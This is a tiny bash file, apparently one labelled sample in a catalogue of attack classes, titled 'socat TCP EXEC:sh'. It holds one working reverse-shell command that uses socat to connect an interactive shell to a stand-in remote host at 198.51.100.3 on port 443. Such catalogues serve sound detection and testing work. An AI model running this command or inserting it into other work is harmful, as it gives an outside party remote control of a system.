#!/usr/bin/env bash
# attack-class: 23
# title: socat TCP EXEC:sh
# why: socat connects a shell to a remote port

socat TCP:198.51.100.3:443 EXEC:'sh -li',pty,stderr,setsid
